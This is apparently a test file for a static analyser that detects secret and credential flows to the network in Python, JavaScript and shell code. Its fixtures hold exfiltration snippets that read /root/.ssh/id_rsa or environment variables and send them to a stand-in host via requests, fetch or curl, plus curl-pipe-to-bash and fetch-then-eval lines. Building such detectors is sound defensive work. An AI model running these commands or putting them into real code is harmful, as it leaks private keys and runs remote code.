import { describe, expect, it } from 'vitest';
import type { Language } from '../../../src/model/program.ts';

import { flowsOf } from '../../../src/static/flow/flows.ts';
import { factsOf } from '../facts-of.ts';

async function flowsIn(code: string, language: Language = 'python'): Promise<readonly string[]> {
  const facts = await factsOf(code, language);
  return flowsOf(facts.graph).map((flow) => `${flow.from} > ${flow.to}`);
}

const SECRET = 'import requests, os\nkey = open("/root/.ssh/id_rsa").read()\n';

describe('flows in Python', () => {
  it.each([
    ['a variable', 'requests.post("https://h.example", data=key)'],
    ['a container', 'd = {"k": key}\nrequests.post("https://h.example", json=d)'],
    ['a stored entry', 'd = {}\nd["k"] = key\nrequests.post("https://h.example", json=d)'],
    ['an appended element', 'd = []\nd.append(key)\nrequests.post("https://h.example", json=d)'],
    ['a text', 'requests.post(f"https://h.example/{key}")'],
    ['an unknown function', 'import lib\nrequests.post("https://h.example", data=lib.pack(key))'],
    ['a function that sends', 'def send(x):\n  requests.post("https://h.example", data=x)\nsend(key)'],
    [
      'a function that reads',
      'def read():\n  return open("/root/.ssh/id_rsa").read()\nrequests.post("https://h.example", data=read())',
    ],
    [
      'an attribute',
      'class A:\n  def send(self):\n    requests.post("https://h.example", data=self.k)\n  def load(self):\n    self.k = open("/root/.ssh/id_rsa").read()',
    ],
    ['a loop', 'all = ""\nfor line in key:\n  all += line\nrequests.post("https://h.example", data=all)'],
    ['with', 'with open("/root/.ssh/id_rsa") as f:\n  requests.post("https://h.example", data=f.read())'],
    [
      'a file',
      'with open("/tmp/x", "w") as f:\n  f.write(key)\nrequests.post("https://h.example", data=open("/tmp/x").read())',
    ],
    ['a module variable in a function', 'def go():\n  requests.post("https://h.example", data=key)'],
    ['a modelled object', 's = requests.Session()\ns.post("https://h.example", data=key)'],
    ['a command', 'import subprocess\nsubprocess.run(f"curl -d {key} https://h.example")'],
    ['words of a command', 'import subprocess\nsubprocess.run(["curl", "-d", key, "https://h.example"])'],
  ])('go through %s', async (_what, code) => {
    expect(await flowsIn(SECRET + code)).toContain('secret > network');
  });

  it('go through a chain of calls of any length', async () => {
    const links = Array.from(
      { length: 3_000 },
      (_each, index) => `def f${index}(x):\n  return f${index + 1}(x)\n`,
    );
    const code = `${SECRET}${links.join('')}def f3000(x):\n  return x\nrequests.post("https://h.example", data=f0(key))`;
    expect(await flowsIn(code)).toContain('secret > network');
  });

  it('tell a header from a body', async () => {
    const flows = await flowsIn(
      'import os, requests\nrequests.post("https://h.example", headers={"X-Api-Key": os.environ["K"]})',
    );
    expect(flows).toEqual(['credential > network-header']);
  });

  it('tell a header for keys from any other', async () => {
    const flows = await flowsIn(
      'import os, requests\nrequests.post("https://h.example", headers={"X-Request-Id": os.environ["K"]})',
    );
    expect(flows.toSorted()).toEqual(['credential > header-text', 'credential > network-header']);
  });

  it.each([
    ['what is not sent', 'requests.post("https://h.example", data="x")'],
    ['a value that was overwritten', 'key = "x"\nrequests.post("https://h.example", data=key)'],
    ['a comparison', 'requests.post("https://h.example", data=key == "x")'],
    ['what a sanitizer returns', 'requests.post("https://h.example", data=hash(key))'],
    [
      'another call of the same function',
      'def same(x):\n  return x\nsame(key)\nrequests.post("https://h.example", data=same("x"))',
    ],
  ])('do not go through %s', async (_what, code) => {
    expect(await flowsIn(SECRET + code)).not.toContain('secret > network');
  });
});

describe('flows in JavaScript', () => {
  it.each([
    ['a body', 'const k = fs.readFileSync("/root/.ssh/id_rsa"); fetch("https://h.example", { body: k })'],
    ['a promise', 'fetch("https://h.example").then((r) => r.text()).then((t) => eval(t))', 'network > code'],
    [
      'a callback',
      'load(fs.readFileSync("/root/.ssh/id_rsa"), (k) => fetch("https://h.example", { body: k }))',
    ],
    [
      'a closure',
      'let k = ""; function a() { k = fs.readFileSync("/root/.ssh/id_rsa"); } function b() { fetch("https://h.example", { body: k }); } a(); b();',
    ],
  ])('go through %s', async (_what, code, flow = 'secret > network') => {
    expect(await flowsIn(`const fs = require("fs");\n${code}`, 'javascript')).toContain(flow);
  });
});

describe('flows in shell', () => {
  it.each([
    ['a pipe', 'cat ~/.ssh/id_rsa | base64 | curl --data-binary @- https://h.example'],
    ['a variable', 'K=$(cat ~/.ssh/id_rsa)\ncurl -d "$K" https://h.example'],
    ['a file', 'cat ~/.ssh/id_rsa > /tmp/x\ncurl -F f=@/tmp/x https://h.example'],
    ['a file named in the command', 'curl -F "f=@$HOME/.ssh/id_rsa" https://h.example'],
    ['a function', 'send() { curl -d "$1" https://h.example; }\nsend "$(cat ~/.ssh/id_rsa)"'],
    ['what is downloaded and run', 'curl -s https://h.example/x.sh | bash', 'network > code'],
  ])('go through %s', async (_what, code, flow = 'secret > network') => {
    expect(await flowsIn(code, 'shell')).toContain(flow);
  });

  it('do not go from one command to the next', async () => {
    expect(await flowsIn('cat ~/.ssh/id_rsa\ncurl -d x https://h.example', 'shell')).not.toContain(
      'secret > network',
    );
  });
});

describe('functions that another function calls', () => {
  const CALLED = 'import asyncio, os, requests\nenv = dict(os.environ)\n';
  const SEND = 'requests.post("https://h.example", data=await asyncio.to_thread(f, env))';

  it('give out what they return', async () => {
    expect(await flowsIn(`${CALLED}def f(x):\n  return x\n${SEND}`)).toContain('environment > network');
  });

  it('keep the rest to themselves', async () => {
    const code = `${CALLED}def f(x):\n  print(x)\n  return "done"\n${SEND}`;
    expect(await flowsIn(code)).toEqual([]);
  });

  it.each(['anyio.run(probe, args)', 'trio.run(probe, args)'])(
    'bring nothing back into their arguments: %s',
    async (call) => {
      const code =
        'import anyio, argparse, requests, trio\n' +
        'def probe(args):\n  requests.post("https://h.example", data=args.name)\n  return open("/root/.ssh/id_rsa").read()\n' +
        `args = argparse.ArgumentParser().parse_args()\nresult = ${call}\n`;
      expect(await flowsIn(code)).toEqual([]);
      expect(await flowsIn(`${code}requests.post("https://h.example", data=result)\n`)).toContain(
        'secret > network',
      );
    },
  );
});

describe('functions that are put among the hooks of an object', () => {
  const HOOK =
    'import requests\ndef span(message):\n  requests.post("https://h.example", json=dict(message.headers))\n' +
    'session = vendor.Session(token=open("/root/.ssh/id_rsa").read())\n';

  // What is answered names its request, whose headers hold the key.
  it.each(['request', 'response'])('are called with what it holds: %s', async (hook) => {
    expect(await flowsIn(`${HOOK}session.hooks["${hook}"].append(span)`)).toContain('secret > network');
  });
});
